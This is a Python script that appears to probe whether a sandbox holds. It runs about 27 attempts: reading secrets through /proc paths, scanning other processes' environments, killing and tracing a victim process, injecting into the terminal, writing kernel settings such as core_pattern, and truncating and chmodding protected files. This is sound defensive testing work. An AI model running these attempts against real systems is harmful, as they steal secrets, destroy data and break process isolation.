"""Hostile code that is run inside a sandbox to see whether the walls hold.

Started by path with a JSON file of facts: where a secret lies, which sockets listen, whose process
waits to be harmed. Each attack returns what it got, or nothing; an exception means that it was
stopped. Prints one JSON line per attack. Needs the standard library only, as an attacker must.
"""

import contextlib
import ctypes
import errno
import json
import os
import resource
import signal
import socket
import sys
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

Facts = dict[str, Any]
_libc = ctypes.CDLL(None, use_errno=True)
_CAPABILITIES = ("CapEff", "CapPrm", "CapAmb")
_REFUSED = {errno.EPERM, errno.ENOSYS, errno.EACCES}


def _call(number: Any, *values: object) -> str | None:
    """Say that a system call was not refused, whatever else it thought of its arguments."""
    _libc.syscall.restype = ctypes.c_long
    ctypes.set_errno(0)
    result = _libc.syscall(ctypes.c_long(number), *values)
    number_of_error = ctypes.get_errno()
    if result < 0 and number_of_error in _REFUSED:
        return None
    return f"returned {result}, errno {number_of_error}"


def _first(attempt: Callable[[Any], str | None], targets: Iterable[object]) -> str | None:
    """The first target on which an attempt got something; one that was refused got nothing."""
    for target in targets:
        try:
            found = attempt(target)
        except OSError:
            continue
        if found:
            return found
    return None


def _intel() -> bool:
    return os.uname().machine == "x86_64"


def read_a_secret(facts: Facts) -> str | None:
    """Read a key file of the owner by its path, and around corners."""
    secret = facts["secret"]
    link = Path("shortcut")
    link.unlink(missing_ok=True)
    link.symlink_to(secret)
    ways = [
        secret,
        "shortcut",
        f"../..{secret}",
        f"/proc/self/root{secret}",
        f"/proc/1/root{secret}",
    ]
    ways += [f"/proc/{facts['victim']}/root{secret}", f"/proc/{facts['victim']}/cwd/{secret}"]
    return _first(lambda way: Path(way).read_text(), ways)


def list_the_home(facts: Facts) -> str | None:
    """See what is in the owner's home, beside the way to the interpreter."""
    home = Path(facts["home"])
    needed = {path.parts[len(home.parts)] for path in _shared(facts) if home in path.parents}
    names = {path.name for path in home.iterdir()} - needed
    nowhere = home == Path("/")  # as without a home; inside, that is the sandbox's own root
    return f"{len(names)} names" if names and not nowhere else None


def _shared(facts: Facts) -> list[Path]:
    return [Path.cwd(), Path(sys.prefix), Path(sys.base_prefix), *map(Path, facts["readable"])]


def write_outside(facts: Facts) -> str | None:
    """Leave a file, or change one, where later programs of the owner would use it."""
    site = [entry for entry in sys.path if entry.endswith("site-packages")]
    folders = [facts["outside"], facts["home"], "/", "/usr/lib", "/etc", "/var/tmp", "/dev", "/run"]
    folders += [sys.prefix, sys.base_prefix, *facts["readable"], *site, "/proc", "/sys"]
    return _first(_write, folders)


def _write(folder: str) -> str:
    path = Path(folder) / "left-by-a-stranger"
    os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    path.unlink()
    return str(path)


def change_the_data(facts: Facts) -> str | None:
    """Change a file that may only be read."""
    return _first(_open_to_write, facts["read_only_files"])


def connect_by_tcp(facts: Facts) -> str | None:
    """Reach a service of this machine."""
    with socket.create_connection(("127.0.0.1", facts["tcp"]), 1):
        return "connected"


def send_by_udp(facts: Facts) -> str | None:
    """Send a datagram to a service of this machine."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"stolen", ("127.0.0.1", facts["udp"]))
    return "sent"


def reach_the_network(facts: Facts) -> str | None:
    """Leave the machine: a name server, the cloud's metadata service, IPv6."""
    targets = [(socket.AF_INET, "192.0.2.1"), (socket.AF_INET, "169.254.169.254")]
    targets += [(socket.AF_INET6, "2001:db8::1")]
    return _first(_leave, targets)


def _leave(target: tuple[int, str]) -> str:
    family, address = target
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.connect((address, 53))  # needs a route, sends nothing
    return f"there is a route to {address}"


def reach_a_daemon(facts: Facts) -> str | None:
    """Talk to a local service through its socket, as one would to docker or ssh-agent."""
    names = [facts["unix"], "\0" + facts["abstract"]]
    return _first(_talk, names)


def _talk(name: str) -> str:
    with socket.socket(socket.AF_UNIX) as caller:
        caller.settimeout(1)
        caller.connect(name)
    return repr(name)


def open_odd_sockets(facts: Facts) -> str | None:
    """Raw packets, netlink, the hypervisor, bluetooth, kernel crypto."""
    odd = ((17, 3, 3), (16, 3, 0), (40, 1, 0), (31, 3, 1), (38, 5, 0))
    return _first(_open_socket, odd)


def _open_socket(kind: tuple[int, int, int]) -> str:
    with socket.socket(*kind):
        return f"family {kind[0]}"


def read_environments(facts: Facts) -> str | None:
    """Look for a key in every process's environment, this one's first."""
    return _search("environ", facts)


def read_command_lines(facts: Facts) -> str | None:
    """Look for a key among every process's arguments."""
    return _search("cmdline", facts)


def _search(name: str, facts: Facts) -> str | None:
    for folder in Path("/proc").iterdir():
        try:
            text = (folder / name).read_bytes() if folder.name.isdigit() else b""
        except OSError:
            continue
        if facts["marker"].encode() in text:
            return f"{folder}/{name}"
    return None


def use_inherited_descriptors(facts: Facts) -> str | None:
    """Find something open that should have been closed."""
    numbers = sorted(int(path.name) for path in Path("/proc/self/fd").iterdir())
    return _first(_target, [fd for fd in numbers if fd > 2])


def _target(fd: int) -> str | None:
    target = str(Path(f"/proc/self/fd/{fd}").readlink())
    return None if target.endswith("/fd") else f"{fd} is {target}"


def kill_a_neighbour(facts: Facts) -> str | None:
    """Signal a process of the owner."""
    os.kill(facts["victim"], signal.SIGKILL)
    return None  # whether the victim lives is seen from outside


def trace_a_neighbour(facts: Facts) -> str | None:
    """Attach to a process of the owner, read its memory, open its files, or change its limits."""
    victim = facts["victim"]
    attempts = (
        lambda: _call(101 if _intel() else 117, 16, victim, 0, 0),
        lambda: _call(310 if _intel() else 270, victim, 0, 0, 0, 0, 0),
        lambda: str(os.open(f"/proc/{victim}/mem", os.O_RDWR)),
        lambda: str(Path(f"/proc/{victim}/fd/0").readlink()),
        lambda: Path(f"/proc/{victim}/maps").read_text()[:80],
        lambda: str(Path(f"/proc/{victim}/root").readlink()),
        lambda: str(resource.prlimit(victim, resource.RLIMIT_NOFILE, (64, 64))),
    )
    return _first(lambda attempt: attempt(), attempts)


def make_namespaces(facts: Facts) -> str | None:
    """Become root of a namespace of one's own, where the kernel's riskier half is open."""
    flags = (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x8000000)
    return _first(_unshare, flags)


def _unshare(flag: int) -> str | None:
    if _libc.unshare(flag) == 0:
        return f"unshare({flag:#x})"
    clone = 56 if _intel() else 220
    found = _call(clone, flag | signal.SIGCHLD, 0, 0, 0, 0)
    if found and found.startswith("returned 0"):
        os._exit(0)
    return found


def mount_something(facts: Facts) -> str | None:
    """Change what the file system looks like: mount, chroot."""
    if _libc.mount(b"none", b".cache", b"tmpfs", 0, None) == 0:
        _libc.umount2(b".cache", 2)
        return "mounted"
    return _call(161 if _intel() else 51, b"/no/such/folder")


def use_risky_kernel_parts(facts: Facts) -> str | None:
    """io_uring, userfaultfd, bpf, perf, keyrings: where most privilege escalations began."""
    intel = _intel()
    buffer = ctypes.create_string_buffer(256)
    calls = {
        "io_uring_setup": (425, 4, buffer),
        "userfaultfd": (323 if intel else 282, 0),
        "bpf": (321 if intel else 280, 0, buffer, 72),
        "perf_event_open": (298 if intel else 241, buffer, 0, -1, -1, 0),
        "keyctl": (250 if intel else 219, 0, -3, 0),
        "add_key": (248 if intel else 217, b"user", b"a", b"b", 1, -2),
        "open_by_handle_at": (304 if intel else 265, -100, buffer, 0),
        "setns": (308 if intel else 268, 0, 0),
        "pidfd_getfd": (438, 0, 0, 0),
        "clone3": (435, buffer, 64),
        "shmget": (29 if intel else 194, 0, 4096, 0o1600),
    }
    got = {
        name: found for name, (number, *rest) in calls.items() if (found := _call(number, *rest))
    }
    return str(got) if got else None


def go_around_the_filter(facts: Facts) -> str | None:
    """Use the second numbering of system calls, where x86 has one."""
    if not _intel():
        return None
    return _call(0x40000000 + 39)


def keep_privileges(facts: Facts) -> str | None:
    """Hold a capability, or be able to gain one by a setuid program."""
    status = Path("/proc/self/status").read_text()
    fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
    held = {name: fields[name] for name in _CAPABILITIES if int(fields[name], 16)}
    if fields["NoNewPrivs"] != "1":
        held["NoNewPrivs"] = fields["NoNewPrivs"]
    return str(held) if held else None


def write_kernel_settings(facts: Facts) -> str | None:
    """Change what the kernel does for everybody, above all which program handles a crash."""
    names = ("sys/kernel/core_pattern", "sysrq-trigger", "sys/vm/drop_caches")
    paths = [f"/proc/{name}" for name in names]
    paths += ["/sys/kernel/uevent_helper", "/sys/fs/cgroup/cgroup.procs", "/sys/power/state"]
    return _first(_open_to_write, paths)


def _open_to_write(path: str) -> str:
    os.close(os.open(path, os.O_WRONLY))
    return path


def open_devices(facts: Facts) -> str | None:
    """Read disks, memory, the kernel's log, the terminal; make a device file."""
    names = "mem kmsg sda vda nvme0n1 kvm fuse tty uinput loop0 console"
    return _first(_open_device, names.split()) or _first(_make_device, ["zero"])


def _open_device(name: str) -> str:
    os.close(os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK))
    return name


def _make_device(name: str) -> str:
    os.mknod(name, 0o20666, os.makedev(1, 5))
    return "mknod"


def type_into_the_terminal(facts: Facts) -> str | None:
    """Put a command into the owner's shell."""
    import fcntl

    for fd in (0, 1, 2):
        try:
            fcntl.ioctl(fd, 0x5412, b"x")
        except OSError as refused:
            if refused.errno == errno.ENOTTY:
                return "the filter lets it through"
    return None


def leave_shared_memory(facts: Facts) -> str | None:
    """Leave a message for the next run where all runs could see it."""
    for folder in ("/dev/shm", "/tmp", "/dev/mqueue"):
        try:
            (Path(folder) / facts["marker"]).write_text("for the next run")
        except OSError:
            continue
    return None  # whoever set the scene looks from outside


def change_modes(facts: Facts) -> str | None:
    """Open the owner's files to everybody, or close them to the owner."""
    os.chmod(facts["secret"], 0o777)  # noqa: PTH101, S103
    os.utime(facts["secret"], (1, 1))
    return None  # whether that did anything is seen from outside


def change_what_is_only_read(facts: Facts) -> str | None:
    """Close a file by its descriptor, or empty it without opening it to write, or even at all."""
    path = facts["read_only_files"][0]
    with open(path, "rb") as file, contextlib.suppress(OSError):  # noqa: PTH123
        os.fchmod(file.fileno(), 0o777)
    _first(lambda each: os.close(os.open(each, os.O_RDONLY | os.O_TRUNC)), [path])
    _first(lambda each: os.truncate(each, 0), [path, facts["secret"]])
    return None  # whether that did anything is seen from outside


def use_shared_segments(facts: Facts) -> str | None:
    """Attach to shared memory of other programs by guessing its number."""
    intel = _intel()
    return _call(30 if intel else 196, 0, 0, 0) or _call(31 if intel else 195, 0, 0, 0)


def hard_link_a_secret(facts: Facts) -> str | None:
    """Give somebody else's file a second name in the work folder."""
    os.link(facts["secret"], "mine")
    return "linked"


ATTACKS: tuple[Callable[[Facts], str | None], ...] = (
    read_a_secret,
    list_the_home,
    write_outside,
    change_the_data,
    hard_link_a_secret,
    change_modes,
    change_what_is_only_read,
    use_shared_segments,
    connect_by_tcp,
    send_by_udp,
    reach_the_network,
    reach_a_daemon,
    open_odd_sockets,
    read_environments,
    read_command_lines,
    use_inherited_descriptors,
    kill_a_neighbour,
    trace_a_neighbour,
    make_namespaces,
    mount_something,
    use_risky_kernel_parts,
    go_around_the_filter,
    keep_privileges,
    write_kernel_settings,
    open_devices,
    type_into_the_terminal,
    leave_shared_memory,
)


def _attack(attack: Callable[[Facts], str | None], facts: Facts) -> str | None:
    with contextlib.suppress(Exception):
        return attack(facts)
    return None


def main() -> None:
    """Try everything and tell what was got."""
    facts = json.loads(Path(sys.argv[1]).read_text())
    for attack in ATTACKS:
        got = _attack(attack, facts)
        print(json.dumps({"attack": attack.__name__, "got": got}), flush=True)  # noqa: T201


if __name__ == "__main__":
    main()
